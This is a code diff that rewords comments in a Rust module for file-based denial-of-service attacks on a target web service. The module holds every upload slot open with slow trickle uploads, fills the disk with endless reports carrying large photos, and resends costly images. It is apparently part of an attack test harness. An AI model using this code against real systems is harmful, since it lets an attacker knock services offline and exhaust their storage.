@@ -1,4 +1,4 @@
-//! Attacks with files: pictures that cost much, uploads that do not end, photos that fill the disk.
+//! Attacks with files: expensive pictures, uploads that do not end, photos that fill the disk.
 
 use super::{Target, files, forms};
 use crate::esb::ATTACKER;
@@ -8,11 +8,11 @@ use tokio::io::AsyncWriteExt;
 use tokio::net::TcpStream;
 use tokio::task::JoinSet;
 
-/// How many uploads are slow at once: as many as there are places.
+/// Number of slow uploads: the limit of uploads.
 const SLOW_UPLOADS: usize = 16;
-/// What each of them sends in a second: a little more than the least that is borne.
+/// Bytes that each of them sends in a second: a little more than the permitted minimum.
 const SLOW_BYTES: usize = 5_000;
-/// How many bytes each of them promises.
+/// The `Content-Length` of each.
 const SLOW_LENGTH: usize = 9_000_000;
 /// Photos of a report that fills the disk.
 const PHOTOS: usize = 5;
@@ -27,7 +27,7 @@ pub(super) async fn send_again_and_again(target: Target, name: &str, file: &[u8]
     Ok(())
 }
 
-/// Reports with as many and as large photos as may be.
+/// Reports with the largest number and size of photos.
 pub(super) async fn fill_disk(target: Target) -> anyhow::Result<()> {
     let gif = files::large_gif();
     for number in 0.. {
@@ -36,7 +36,7 @@ pub(super) async fn fill_disk(target: Target) -> anyhow::Result<()> {
     Ok(())
 }
 
-/// Sends a report; waits a little when it is refused or not answered.
+/// Sends a report. Waits after a refusal or without an answer.
 async fn send(target: Target, number: u64, photos: &[(&str, &[u8])]) {
     let request = forms::report(target, number, photos);
     let status = async {
@@ -48,13 +48,13 @@ async fn send(target: Target, number: u64, photos: &[(&str, &[u8])]) {
     }
 }
 
-/// Holds all places in which files are received.
+/// Holds all upload places.
 pub(super) async fn send_slowly(target: Target) -> anyhow::Result<()> {
     let mut uploads = JoinSet::new();
     for number in 0..SLOW_UPLOADS {
         uploads.spawn(async move {
             loop {
-                // One that is refused begins anew.
+                // A refused upload starts again.
                 let _ = trickle(target, number as u64).await;
                 tokio::time::sleep(PAUSE).await;
             }
